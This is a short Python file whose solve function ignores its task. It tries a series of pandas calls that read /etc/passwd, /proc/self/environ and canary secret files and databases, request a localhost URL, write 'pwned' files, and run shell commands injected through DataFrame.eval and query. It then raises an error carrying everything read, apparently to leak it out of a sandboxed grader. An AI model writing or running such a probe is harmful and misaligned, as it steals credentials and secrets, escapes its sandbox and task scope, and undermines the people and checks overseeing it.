import pandas as pd


def tried(make):
    try:
        return repr(make())[:200]
    except BaseException as error:
        return repr(error)[:80]


def solve(xs):
    frame = pd.DataFrame({"x": xs})
    doors = (
        lambda: pd.read_csv("/etc/passwd"),
        lambda: pd.read_csv("/srv/canary/secret.txt"),
        lambda: pd.read_csv("http://127.0.0.1:47611/x.csv"),
        lambda: pd.read_csv("file:///srv/canary/secret.txt"),
        lambda: pd.read_table("/proc/self/environ"),
        lambda: pd.read_fwf("/srv/canary/secret.txt"),
        lambda: pd.read_sql("select * from sqlite_master", "sqlite:////srv/canary/app.db"),
        lambda: pd.read_pickle("/srv/canary/secret.txt"),
        lambda: pd.read_json("/srv/canary/secret.txt"),
        lambda: pd.read_clipboard(),
        lambda: frame.to_pickle("/var/tmp/pwned"),
        lambda: frame.to_csv("/var/tmp/pwned"),
        lambda: frame.to_json("/srv/canary/pwned"),
        lambda: frame.to_html("pwned"),
        lambda: frame.eval("@__import__('os').system('touch /var/tmp/pwned')"),
        lambda: frame.query("@pd.io.common.os.system('touch /var/tmp/pwned') == 0"),
    )
    raise RuntimeError(repr([tried(door) for door in doors]))
